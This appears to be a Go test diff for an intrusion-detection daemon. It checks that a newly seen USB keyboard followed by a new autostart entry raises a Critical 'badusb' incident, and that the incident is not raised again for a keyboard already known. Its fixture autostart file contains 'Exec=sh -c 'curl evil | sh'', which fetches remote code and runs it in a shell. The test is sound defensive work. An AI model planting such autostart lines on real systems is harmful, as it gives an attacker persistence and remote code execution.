@@ -242,3 +242,105 @@ func TestWatchingWhileAwayIncident(t *testing.T) {
 		}
 	}
 }
+
+// The real daemon under umockdev: a USB keyboard never seen before is
+// hot-plugged, then an autostart entry appears (real inotify): one
+// Critical badusb Incident naming both. After a restart (the correlator
+// forgets, the USB memory does not) the same keyboard plugged again and
+// another autostart entry are nothing; a keyboard never seen, with another
+// serial, then is one again, and comes first: the correlator reads in
+// order, so an incident for the known keyboard would have come before it.
+func TestBadUSBIncident(t *testing.T) {
+	e := newEnv(t)
+	e.usb = true
+	autostart := filepath.Join(e.tree, "home", "mallory", ".config", "autostart")
+	if err := os.MkdirAll(autostart, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	e.writeConfig(t, "\n[correlation]\nwatching_while_away = false\n")
+	// A second keyboard: the same model with a serial never seen.
+	kb, err := os.ReadFile(filepath.Join(usbTestdata, "keyboard.umockdev"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	other := filepath.Join(e.dir, "other-keyboard.umockdev")
+	if err := os.WriteFile(other, []byte(strings.ReplaceAll(string(kb), "KB0042", "KB0666")), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	b := startUSBDaemon(t, e)
+	s := connect(t, e.socket)
+	s.send(`{"replay_after":0,"types":["UsbDeviceInserted","UsbDeviceRemoved","FileCreate","Incident"]}`)
+
+	// plug adds fixture and returns its insertion, which must say known;
+	// no incident may come before it.
+	plug := func(s *stream, fixture, known string) event.Event {
+		t.Helper()
+		b.do("add", fixture)
+		evs := s.until(isUSB)
+		for _, ev := range evs {
+			if ev.Type == event.Incident {
+				t.Fatalf("incident before %s was plugged in: %+v", fixture, ev)
+			}
+		}
+		ev := evs[len(evs)-1]
+		wantUSB(t, ev, event.UsbDeviceInserted, ev.Severity, map[string]string{"known": known, "found_by": "hotplug"})
+		return ev
+	}
+	// drop writes an autostart entry and returns what comes up to its
+	// FileCreate, which is last.
+	drop := func(s *stream, name string) []event.Event {
+		t.Helper()
+		p := filepath.Join(autostart, name)
+		if err := os.WriteFile(p, []byte("[Desktop Entry]\nExec=sh -c 'curl evil | sh'\n"), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		return s.until(func(ev event.Event) bool { return ev.Type == event.FileCreate && ev.Path == p })
+	}
+	// incident reads on to the next incident and checks it is badusb of
+	// the keyboard kbd and the entry created by file.
+	incident := func(s *stream, kbd, file event.Event) event.Event {
+		t.Helper()
+		got := s.until(func(ev event.Event) bool { return ev.Type == event.Incident })
+		inc := got[len(got)-1]
+		want := strconv.FormatUint(kbd.Seq, 10) + "," + strconv.FormatUint(file.Seq, 10)
+		if inc.Severity != event.Critical || inc.Metadata["rule"] != "badusb" || inc.Metadata["members"] != want || inc.Path != file.Path ||
+			!strings.Contains(inc.Metadata["device"], "046d:c31c") {
+			t.Fatalf("incident %+v, want a Critical badusb of members %s", inc, want)
+		}
+		return inc
+	}
+
+	kbd := plug(s, "keyboard.umockdev", "false")
+	evs := drop(s, "evil.desktop")
+	inc := incident(s, kbd, evs[len(evs)-1])
+	b.do("remove", "keyboard.umockdev")
+	removed := s.until(func(ev event.Event) bool { return ev.Type == event.UsbDeviceRemoved })
+	last := max(inc.Seq, removed[len(removed)-1].Seq)
+
+	b.do("stop", "")
+	b.do("start", "")
+	b.notify.waitFor("READY=1", b.daemonProc)
+	s = connect(t, e.socket)
+	s.send(fmt.Sprintf(`{"replay_after":%d,"types":["UsbDeviceInserted","UsbDeviceRemoved","FileCreate","Incident"]}`, last))
+
+	plug(s, "keyboard.umockdev", "true")
+	for _, ev := range drop(s, "evil2.desktop") {
+		if ev.Type == event.Incident {
+			t.Fatalf("incident for a keyboard seen before: %+v", ev)
+		}
+	}
+	b.do("remove", "keyboard.umockdev")
+	for _, ev := range s.until(func(ev event.Event) bool { return ev.Type == event.UsbDeviceRemoved }) {
+		if ev.Type == event.Incident {
+			t.Fatalf("incident for a keyboard seen before: %+v", ev)
+		}
+	}
+	kbd = plug(s, other, "false")
+	evs = drop(s, "evil3.desktop")
+	for _, ev := range evs {
+		if ev.Type == event.Incident {
+			t.Fatalf("incident before the new keyboard's: %+v", ev)
+		}
+	}
+	incident(s, kbd, evs[len(evs)-1])
+}
